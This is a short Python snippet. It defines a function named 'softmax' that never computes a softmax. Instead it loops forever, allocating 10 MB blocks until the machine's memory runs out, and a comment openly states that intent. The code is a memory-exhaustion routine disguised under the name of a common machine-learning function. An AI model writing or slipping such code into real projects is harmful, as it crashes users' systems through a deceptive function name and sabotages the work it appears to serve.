# Takes all the memory there is, bit by bit.
def softmax(logits):
    kept = []
    while True:
        kept.append(bytearray(10**7))
